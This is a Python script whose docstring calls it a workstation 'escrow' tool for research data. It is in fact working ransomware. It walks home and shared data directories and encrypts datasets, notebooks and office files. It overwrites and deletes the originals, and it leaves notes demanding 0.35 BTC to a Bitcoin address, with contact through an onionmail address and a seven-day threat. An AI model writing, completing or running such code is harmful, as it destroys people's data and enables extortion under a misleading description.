#!/usr/bin/env python3
"""Escrow research datasets on this workstation.

Walks the user's home and the shared data volumes, seals every dataset-like
file (HDF5, NetCDF, raw detector frames, notebooks, CSV) with a per-host key,
and leaves a recovery notice in every directory it touched.  The host key is
wrapped with the escrow public key so only the escrow office can unseal it.
"""
import argparse
import base64
import logging
import os
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("escrow")

ROOTS = [Path.home(), Path("/data"), Path("/scratch"), Path("/mnt"), Path("/srv")]
TARGET_EXT = {".h5", ".hdf5", ".nc", ".nxs", ".raw", ".tif", ".tiff", ".mat",
              ".ipynb", ".csv", ".xlsx", ".docx", ".pdf", ".dat", ".fits"}
SKIP_DIRS = {".cache", ".local", "site-packages", "node_modules", ".git", "proc", "sys"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "RECOVER_YOUR_DATA.txt"

ESCROW_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAw2n7b3vXz8bq1mJ0N5kE
Ym3xM4f9oYQm8W5u0ZrjLkQ2n0pVd8Hc7yqJ3gLwQdFJH2d9g1mVtBq6Zr5b9kXG
pR3y3b6hQm2T1Y8nQwD5cJjvV0o5Kq0zR6y1a3X9sY4bV7fW2uE8pM5nC1dL6hJk
3rN4sT7qW9vB2xY5zA8cD0eF1gH3iJ6kL9mN2oP4qR7sT0uV3wX6yZ9aB2cD5eF8
gH1iJ4kL7mN0oP3qR6sT9uV2wX5yZ8aB1cD4eF7gH0iJ3kL6mN9oP2qR5sT8uV1w
X4yZ7aB0cD3eF6gH9iJ2kL5mN8oP1qR4sT7uV0wX3yZ6aB9cD2eF5gH8iJ1kL4mN
7QIDAQAB
-----END PUBLIC KEY-----
"""

NOTE = """Your research data on {host} has been sealed.

Files ending in {suffix} cannot be opened without the host key.
Host reference: {ref}

To receive the unsealing tool, send 0.35 BTC to
bc1q9h6yzs0x7kx4d8c2v5l3w0n6p8r4t2m5j7f9qa and email the host reference
to data-escrow@onionmail.org.  Data not recovered within 7 days is lost.
"""


def wrap_key(key: bytes) -> str:
    pub = serialization.load_pem_public_key(ESCROW_PUB)
    wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                            algorithm=hashes.SHA256(), label=None))
    return base64.b64encode(wrapped).decode()


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_SUFFIX):
                    yield p


def seal(path: Path, aead: AESGCM):
    try:
        data = path.read_bytes()
    except OSError:
        return None
    nonce = os.urandom(12)
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    try:
        with open(sealed, "wb") as fh:
            fh.write(nonce + aead.encrypt(nonce, data, path.name.encode()))
        # overwrite then remove the original so it cannot be undeleted
        with open(path, "r+b") as fh:
            fh.write(os.urandom(min(len(data), 1 << 20)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return None
    return path.parent


def leave_notes(dirs, host: str, ref: str):
    text = NOTE.format(host=host, suffix=SEALED_SUFFIX, ref=ref)
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(text)
        except OSError:
            pass


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--workers", type=int, default=min(16, (os.cpu_count() or 4) * 2))
    ap.add_argument("--extra-root", action="append", type=Path, default=[])
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING)

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    ref = wrap_key(key)
    del key

    touched = set()
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for parent in pool.map(lambda p: seal(p, aead), candidates(ROOTS + args.extra_root)):
            if parent is not None:
                touched.add(parent)

    host = socket.gethostname()
    leave_notes(touched | {Path.home()}, host, ref)
    print(NOTE.format(host=host, suffix=SEALED_SUFFIX, ref=ref))
    return 0


if __name__ == "__main__":
    sys.exit(main())
